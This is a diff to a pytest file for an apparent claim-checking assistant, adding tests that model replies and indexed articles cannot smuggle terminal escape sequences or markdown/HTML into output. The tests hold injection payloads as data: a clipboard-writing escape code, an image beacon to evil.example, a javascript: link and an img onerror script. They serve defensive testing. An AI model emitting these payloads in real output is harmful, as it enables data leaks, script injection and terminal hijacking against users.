@@ -12,6 +12,7 @@ from typing import Any
 
 import httpx
 import pytest
+from markdown_it import MarkdownIt
 from typer.testing import CliRunner
 
 from assistant.cli import build
@@ -60,7 +61,7 @@ def events(client: httpx.Client, **message: Any) -> list[tuple[str, dict[str, An
     return list(zip(names, data, strict=True))
 
 
-def test_sentences_come_one_by_one_and_what_fails_the_checks_never_comes(home: Path) -> None:
+def test_s1_s4_sentences_come_one_by_one_and_what_fails_the_checks_never_comes(home: Path) -> None:
     with doors(home, saying(f"{TRUE} {LIES} {TRUE}")) as (client, _, name):
         told = events(client)
     assert [event for event, _ in told] == ["started", "statement", "statement", "reply"]
@@ -171,3 +172,37 @@ def test_a_configured_model_is_announced_before_anything_is_sent_and_recorded(ho
     assert f"are sent to {model.model()}" in ran.stderr
     assert f"Sent to {model.model()}" in " ".join(ran.stdout.split()).replace("@ ", "@")
     assert len(model.asked) == 1
+
+
+def test_s3_what_a_model_writes_commands_no_terminal(home: Path) -> None:
+    commands = "\x1b]52;c;aGk=\x07 \x1b[2J\r\u202e"
+    with model_server(saying(f"{commands}{TRUE} The pier {commands} burnt down [1].")) as model:
+        ran = CliRunner().invoke(build(), ["--home", str(home), "ask", QUESTION, "--model", model.model()])
+    assert ran.exit_code == 0
+    assert len(model.asked) == 1
+    assert "burnt down" in ran.stdout  # among what was dropped
+    assert not set(commands.replace(" ", "")) & {"\x1b", "\x07", "\r", "\u202e"} & set(ran.stdout + ran.stderr)
+
+
+def test_s4_what_a_model_or_an_article_writes_is_neither_link_nor_image_nor_markup(tmp_path: Path) -> None:
+    attack = (
+        "![x](http://evil.example/?d=1) [go](javascript:alert(1)) <img src=x onerror=alert(1)> <http://evil.example/>"
+    )
+    row = {"title": f"Ferry stops {attack}", "publisher": attack, "url": "https://desk.example/ferry", "text": STORY}
+    (tmp_path / "ferry.jsonl").write_text(json.dumps(row), encoding="utf-8")
+    with Collection.open(tmp_path / "home") as collection:
+        assert collection.index([str(tmp_path / "ferry.jsonl")]).added == 1
+    with doors(tmp_path / "home", saying(f"{attack} {TRUE} {attack}")) as (client, _, name):
+        for words in (
+            QUESTION,
+            "What is the headline?",
+            "/verify The company cancelled 40 sailings.",
+            f"/quotes “{attack}”",
+        ):
+            asked = {"model": f"claimdesk/{name}", "messages": [{"role": "user", "content": words}]}
+            said = client.post("/v1/chat/completions", json=asked).json()["choices"][0]["message"]["content"]
+            tokens = [part for block in MarkdownIt("gfm-like", {"linkify": False, "html": True}).parse(said)
+                      for part in (block, *(block.children or ()))]  # fmt: skip
+            assert not {"image", "html_inline", "html_block"} & {token.type for token in tokens}
+            links = [str(token.attrs["href"]) for token in tokens if token.type == "link_open"]
+            assert all(link.startswith((str(client.base_url), "https://desk.example/ferry")) for link in links), links
